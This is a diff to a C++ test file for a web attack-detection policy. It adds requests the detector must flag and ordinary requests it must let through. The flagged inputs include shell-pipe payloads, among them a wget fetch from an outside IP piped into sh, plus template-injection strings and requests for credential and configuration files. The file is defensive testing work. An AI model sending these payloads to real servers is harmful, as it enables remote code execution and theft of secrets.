@@ -444,6 +444,19 @@ TEST_CASE("policies/web.json: attacks from every set match, ordinary requests do
     // Commands in backticks, closed or with an argument.
     CHECK(set_hit("GET /x?q=%60ifconfig%60 HTTP/1.1\r\n") == "rce");
     CHECK(set_hit("POST /api HTTP/1.1\r\n\r\n{\"n\": \"a`id`b\"}") == "rce");
+    // A pipe into a shell, ended by the value's end, an option, a separator or a quote.
+    CHECK(set_hit("GET /x?c=echo+aWQK+%7C+base64+-d+%7C+bash HTTP/1.1\r\n") == "rce");
+    CHECK(set_hit("GET /x?u=wget+-qO-+203.0.113.9%2Fs%7Csh+-s&p=1 HTTP/1.1\r\n") == "rce");
+    CHECK(set_hit("POST /api HTTP/1.1\r\n\r\n{\"u\": \"x|zsh\"}") == "rce");
+    // Template tags that read files or modules, and a Windows user profile's files.
+    CHECK(set_hit("POST /t HTTP/1.1\r\n\r\nt=%7B%25+import+os+%25%7D%7B%7Bos.name%7D%7D") ==
+          "java");
+    CHECK(set_hit("POST /t HTTP/1.1\r\n\r\nt=%7B%25+debug+%25%7D") == "java");
+    CHECK(set_hit("GET /item?file=C:%5CUsers%5CAdministrator%5CNTUser.dat HTTP/1.1\r\n") ==
+          "file_access");
+    CHECK(set_hit("GET /item?f=c:/program+files/mysql/my.ini HTTP/1.1\r\n") == "file_access");
+    CHECK(set_hit("GET /credentials.json HTTP/1.1\r\n") == "file_access");
+    CHECK(set_hit("GET /item?file=../config/database.yml HTTP/1.1\r\n") == "file_access");
     // A Windows environment variable, as cmd expands it in an injected command.
     CHECK(set_hit("GET /ping?host=a%26echo+%25USERNAME%25 HTTP/1.1\r\n") == "rce");
     CHECK(set_hit("GET /index.php.bak HTTP/1.1\r\n") == "probes");
@@ -707,7 +720,23 @@ TEST_CASE("policies/web.json: attacks from every set match, ordinary requests do
           "POST /comment HTTP/1.1\r\n\r\nmsg=It%27s+%27fine%27%0D%0A%23+Notes%0D%0A--+me",
           // A JSON review's lines: a line that starts with a command's name and goes on.
           "POST /api/reviews HTTP/1.1\r\n\r\n{\"comment\": \"Great!\\nId like two more.\\nSleep "
-          "8 hours, env. friendly\\nID: 12345\", \"path\": \"C:\\\\new\\\\id\"}"}) {
+          "8 hours, env. friendly\\nID: 12345\", \"path\": \"C:\\\\new\\\\id\"}",
+          // Page titles sent by analytics beacons: "Page | Site", the site's name starting
+          // with "sh" (Shop, Shell, Sheffield).
+          "POST /collect HTTP/1.1\r\n\r\nv=2&dt=Checkout+-+Payment+%7C+Shop&dl=https%3A%2F%2F"
+          "shop.example%2F",
+          "GET /g/collect?v=2&dt=News+%7C+Sheffield+United&en=page_view HTTP/1.1\r\n",
+          "GET /g/collect?v=2&dt=Home+%7C+Shell+Energy HTTP/1.1\r\n",
+          // A shop theme's template editor: loops, conditions and assignments.
+          "POST /admin/theme HTTP/1.1\r\n\r\ntemplate=%7B%25+for+p+in+products+%25%7D%7B%7B+"
+          "p.title+%7D%7D%7B%25+endfor+%25%7D%7B%25+if+customer+%25%7DHi%7B%25+endif+%25%7D%7B%25"
+          "+set+total+%3D+0+%25%7D",
+          // A single-page app's runtime configuration; a JSON mock server's data.
+          "GET /config.json HTTP/1.1\r\n", "GET /assets/config.json HTTP/1.1\r\n",
+          "GET /db.json HTTP/1.1\r\n",
+          // A support request's Windows paths: a user's profile, an installation folder.
+          "POST /support HTTP/1.1\r\n\r\nmsg=It+crashes%3A+C%3A%5CUsers%5Canna%5CAppData%5CLocal"
+          "%5CTemp%5Csetup.log%3B+installed+to+C%3A%5CProgram+Files+(x86)%5CAcme"}) {
         INFO(ok);
         CHECK(set_hit(ok).empty());
     }
